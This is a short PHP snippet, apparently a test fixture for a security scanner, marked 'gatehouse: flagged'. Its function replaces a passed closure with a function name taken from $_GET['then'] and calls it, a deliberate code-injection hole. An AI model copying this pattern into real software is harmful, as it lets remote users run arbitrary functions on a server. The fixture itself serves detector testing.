<?php

function after($then, $value)
{
    if ($then instanceof Closure) {
        $then = $_GET['then'];
        $then($value); // gatehouse: flagged
    }
}

after(fn ($value) => $value, 1);
